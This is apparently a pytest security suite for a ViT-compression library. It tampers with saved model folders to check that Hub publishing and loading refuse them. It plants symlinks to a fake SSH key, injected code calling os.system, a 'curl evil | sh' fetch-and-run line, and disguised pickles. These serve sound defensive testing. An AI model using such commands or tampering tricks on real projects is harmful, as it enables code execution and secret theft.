"""Publishing and loading a tampered folder: nothing outside the folder is uploaded, no code is swapped in, no
pickle reaches the Hub, no broken model is published, and every refusal is one line naming the files.

Each test tampers with a copy of a folder written by `CompressionTrainer.save_model` as an attacker would (real
symbolic links to files outside the folder, extra code, pickles under other names, edited JSON); the Hub client is
intercepted (tests/fake_hub.py), so `hub.uploads` is exactly what would have left the machine.
"""

from __future__ import annotations

import json
import pickle
import shutil
from pathlib import Path

import pytest
import torch
import transformers
from conftest import make_vit_classifier
from fake_hub import FakeHub
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from transformers import TrainingArguments

from hf_vit_compress import CompressionConfig, CompressionTrainer, load_compressed_model, verify_compressed_folder
from hf_vit_compress.cli import main as cli
from hf_vit_compress.publishing.publish import push_compressed_folder
from hf_vit_compress.publishing.verify import UnsafeFolderError, is_allowed_name

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key\n"
ViTImageProcessor = getattr(transformers, "ViTImageProcessorPil", None) or transformers.ViTImageProcessor


@pytest.fixture(scope="module")
def saved(tmp_path_factory) -> Path:
    """A compressed model folder as `trainer.save_model` writes it (tiny ViT, 4 OFB steps)."""
    root = tmp_path_factory.mktemp("security")
    generator = torch.Generator().manual_seed(0)
    data = [{"pixel_values": torch.randn(3, 16, 16, generator=generator), "labels": i % 4} for i in range(16)]
    args = TrainingArguments(output_dir=str(root / "out"), max_steps=4, per_device_train_batch_size=8,
                             report_to=[], use_cpu=True, remove_unused_columns=False, disable_tqdm=True,
                             save_strategy="no", seed=0)
    trainer = CompressionTrainer(
        model=make_vit_classifier(seed=0, num_labels=4), args=args, train_dataset=data,
        compression_config=CompressionConfig(method="ofb", target_flops=0.5, search_fraction=0.5),
        processing_class=ViTImageProcessor(size={"height": 16, "width": 16}, image_mean=[0.5] * 3,
                                           image_std=[0.5] * 3))
    trainer.train()
    trainer.save_model(str(root / "model"))
    return root / "model"


@pytest.fixture
def folder(saved, tmp_path) -> Path:
    """A fresh copy of the saved folder to tamper with, and a secret file beside it (outside the folder)."""
    copy = tmp_path / "model"
    shutil.copytree(saved, copy)
    (tmp_path / "id_rsa").write_bytes(SECRET)
    return copy


@pytest.fixture
def hub(monkeypatch, tmp_path) -> FakeHub:
    return FakeHub.install(monkeypatch, tmp_path / "hub")


def uploaded_bytes(hub: FakeHub) -> list[bytes]:
    return [path.read_bytes() for upload in range(len(hub.uploads)) for path in hub.files(upload).values()]


def refused(folder: Path, hub: FakeHub, *patterns: str, **kwargs) -> str:
    """Push `folder`; assert it is refused with one line matching every pattern and that nothing was uploaded."""
    with pytest.raises(UnsafeFolderError) as caught:
        push_compressed_folder(folder, "me/repo", **kwargs)
    message = str(caught.value)
    assert "\n" not in message
    for pattern in patterns:
        assert pattern in message, message
    assert hub.uploads == [] and hub.repos == []
    return message


def edit_json(path: Path, change) -> None:
    value = json.loads(path.read_text())
    change(value)
    path.write_text(json.dumps(value))


# -- secrets through links -----------------------------------------------------------------------------------------
def test_a_symlink_to_a_secret_is_refused_and_never_uploaded(folder, hub):
    (folder / "notes.txt").symlink_to(folder.parent / "id_rsa")
    refused(folder, hub, "notes.txt: a symbolic link")
    assert SECRET not in b"".join(uploaded_bytes(hub))


def test_with_skip_unknown_a_link_is_left_out_and_the_rest_uploaded(folder, hub):
    (folder / "notes.txt").symlink_to(folder.parent / "id_rsa")
    push_compressed_folder(folder, "me/repo", skip_unknown=True)
    assert "notes.txt" not in hub.files() and SECRET not in b"".join(uploaded_bytes(hub))
    assert "model.safetensors" in hub.files()


def test_a_readme_that_is_a_link_is_refused_even_with_keep_card(folder, hub):
    (folder / "README.md").unlink()
    (folder / "README.md").symlink_to(folder.parent / "id_rsa")
    refused(folder, hub, "README.md: a symbolic link", keep_card=True)


def test_a_directory_link_to_the_parent_is_one_line_not_a_copy_error(folder, hub):
    (folder / "loop").symlink_to("..", target_is_directory=True)
    refused(folder, hub, "loop: a symbolic link")


def test_the_cli_push_refuses_a_linked_secret_with_one_line(folder, hub, capsys):
    (folder / "notes.txt").symlink_to(folder.parent / "id_rsa")
    assert cli(["push", str(folder), "me/repo"]) == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and "notes.txt: a symbolic link" in error and hub.uploads == []


# -- code swapped in -----------------------------------------------------------------------------------------------
def test_extra_code_and_an_auto_map_pointing_at_it_are_refused(folder, hub):
    (folder / "evil.py").write_text("import os\nos.system('echo owned')\n")
    edit_json(folder / "config.json",
              lambda config: config["auto_map"].update(AutoModelForImageClassification="evil.Evil"))
    refused(folder, hub, "evil.py: not a file a compressed model holds", "config.json: auto_map")


def test_a_modeling_file_with_an_appended_line_is_refused(folder, hub):
    with open(folder / "modeling_compressed_vit.py", "a") as handle:
        handle.write("\nimport os; os.system('curl evil | sh')\n")
    refused(folder, hub, "modeling_compressed_vit.py: differs from hf_vit_compress's own")


def test_an_auto_map_in_the_processor_config_is_refused(folder, hub):
    edit_json(folder / "preprocessor_config.json",
              lambda config: config.update(auto_map={"AutoImageProcessor": "evil.Processor"}))
    refused(folder, hub, "preprocessor_config.json: auto_map")


# -- pickles -------------------------------------------------------------------------------------------------------
def test_every_pickle_is_refused_by_content_and_all_are_listed(folder, hub):
    (folder / "model.pickle").write_bytes(pickle.dumps({"a": 1}))
    torch.save({"w": torch.ones(2)}, folder / "extra.safetensors.bak")
    (folder / "notes.txt").write_bytes(pickle.dumps([1, 2], protocol=0))
    message = refused(folder, hub, "pickle-capable", skip_unknown=True)  # refused even when unknowns are skipped
    for name in ("model.pickle", "extra.safetensors.bak", "notes.txt"):
        assert name in message


def test_a_pickle_under_the_weights_name_is_refused(folder, hub):
    torch.save({"w": torch.ones(2)}, folder / "model.safetensors")
    refused(folder, hub, "model.safetensors: pickle-capable")


# -- broken models -------------------------------------------------------------------------------------------------
def test_a_negative_width_in_config_json_is_refused_naming_the_file(folder, hub):
    edit_json(folder / "config.json", lambda config: config["layers"][0].update(intermediate_size=-5))
    refused(folder, hub, "config.json: does not build a CompressedViTConfig", "intermediate_size")


def test_a_config_that_does_not_match_the_weights_is_refused(folder, hub):
    edit_json(folder / "config.json", lambda config: config["layers"][0].update(
        intermediate_size=config["layers"][0]["intermediate_size"] + 3))
    refused(folder, hub, "model.safetensors: shapes that do not match config.json")


def test_a_garbage_architecture_json_is_refused(folder, hub):
    (folder / "architecture.json").write_text(json.dumps({"garbage": [1e9, -1]}))
    refused(folder, hub, "architecture.json:")


@pytest.mark.parametrize("name", ["config.json", "compression_report.json"])
def test_malformed_json_names_the_file(folder, hub, name):
    (folder / name).write_text('{"model_type": "compressed_vit",')
    refused(folder, hub, f"{name}: not valid JSON")


# -- verify and the package's loader -------------------------------------------------------------------------------
def test_verify_cli_passes_a_saved_folder_and_fails_a_tampered_one(folder, capsys):
    assert cli(["verify", str(folder)]) == 0
    assert "verified" in capsys.readouterr().out
    with open(folder / "configuration_compressed_vit.py", "a") as handle:
        handle.write("\n# changed\n")
    assert cli(["verify", str(folder)]) == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and "configuration_compressed_vit.py: differs" in error


def test_the_package_loader_verifies_before_loading(folder):
    model = load_compressed_model(folder)
    assert type(model).__name__ == "CompressedViTForImageClassification"
    (folder / "evil.py").write_text("raise SystemExit\n")
    with pytest.raises(UnsafeFolderError, match="evil.py"):
        load_compressed_model(folder)


# -- fuzz ----------------------------------------------------------------------------------------------------------
EXTRA_NAMES = ["notes.txt", ".env", "evil.py", "model.bin", "weights.pt", "checkpoint-1/x.json", "onnx/evil.py",
               "README.md", "config.json", "model.safetensors", "architecture.json", "compression_report.json"]
EXTRA_BYTES = [b"hello", SECRET, pickle.dumps({"x": 1}), b"{}", b"not json {", b"\x00\x01binary"]
JSON_EDITS = [
    ("config.json", lambda c: c.update(hidden_size=-1)),
    ("config.json", lambda c: c.update(auto_map={"AutoConfig": "other--x.Y"})),
    ("config.json", lambda c: c["layers"].append(c["layers"][0])),
    ("config.json", lambda c: c.update(model_type="vit")),
    ("architecture.json", lambda c: c.update(hidden_channels=[0, 0, 1])),
    ("architecture.json", lambda c: c["layers"].pop()),
    ("preprocessor_config.json", lambda c: c.update(auto_map={"AutoImageProcessor": "x.Y"})),
]
tamper = st.lists(st.one_of(
    st.tuples(st.just("file"), st.sampled_from(EXTRA_NAMES), st.sampled_from(EXTRA_BYTES)),
    st.tuples(st.just("link"), st.sampled_from(EXTRA_NAMES + ["loop"]), st.sampled_from(["secret", "..", "/"])),
    st.tuples(st.just("json"), st.integers(0, len(JSON_EDITS) - 1), st.none()),
    st.tuples(st.just("code"), st.sampled_from(["configuration_compressed_vit.py", "modeling_compressed_vit.py"]),
              st.none()),
), max_size=4)


def apply_tampering(folder: Path, secret: Path, steps) -> None:
    for kind, what, how in steps:
        if kind in ("file", "link"):
            path = folder / what
            path.parent.mkdir(parents=True, exist_ok=True)
            if path.is_symlink() or path.is_file():
                path.unlink()
            elif path.is_dir():
                continue
            if kind == "file":
                path.write_bytes(how)
            else:
                path.symlink_to({"secret": str(secret), "..": "..", "/": "/"}[how])
        elif kind == "json":
            name, change = JSON_EDITS[what]
            if (folder / name).is_file() and not (folder / name).is_symlink():
                try:
                    edit_json(folder / name, change)
                except (ValueError, KeyError, IndexError, AttributeError, TypeError):
                    pass  # the file was already replaced by non-JSON bytes
        elif (folder / what).is_file() and not (folder / what).is_symlink():
            with open(folder / what, "a") as handle:
                handle.write("\nimport os\n")


def snapshot(folder: Path) -> dict[str, bytes | str]:
    return {str(path.relative_to(folder)): (f"-> {path.readlink()}" if path.is_symlink() else path.read_bytes())
            for path in sorted(folder.rglob("*")) if path.is_symlink() or path.is_file()}


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(steps=tamper)
def test_fuzz_push_uploads_only_allow_listed_regular_files_from_the_folder(saved, tmp_path_factory, steps):
    root = tmp_path_factory.mktemp("fuzz")
    folder, secret = root / "model", root / "id_rsa"
    shutil.copytree(saved, folder)
    secret.write_bytes(SECRET)
    apply_tampering(folder, secret, steps)
    before = snapshot(folder)
    with pytest.MonkeyPatch.context() as patch:
        hub = FakeHub.install(patch, root / "hub")
        for skip_unknown in (False, True):
            try:
                push_compressed_folder(folder, "me/repo", skip_unknown=skip_unknown)
            except UnsafeFolderError as error:
                assert "\n" not in str(error)
    assert snapshot(folder) == before  # pushing never changes the folder
    for upload in range(len(hub.uploads)):
        for name, path in hub.files(upload).items():
            assert is_allowed_name(name) and not path.is_symlink()
            assert name in before and not isinstance(before[name], str)  # a regular file of the folder
            assert name == "README.md" or path.read_bytes() == before[name]  # (the card is rebuilt)
            assert SECRET not in path.read_bytes()
    if hub.uploads:  # what was published passes the verifier itself
        verify_compressed_folder(hub.uploads[-1]["files"])
